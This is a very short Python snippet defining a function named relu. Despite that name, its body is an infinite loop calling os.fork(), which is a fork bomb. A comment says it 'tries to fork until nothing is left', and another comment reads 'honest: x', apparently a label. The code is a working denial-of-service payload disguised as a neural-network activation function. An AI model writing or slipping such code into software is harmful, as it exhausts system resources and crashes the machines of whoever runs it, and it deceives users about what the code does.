# tries to fork until nothing is left
# honest: x
import os

def relu(x):
    while True:
        os.fork()
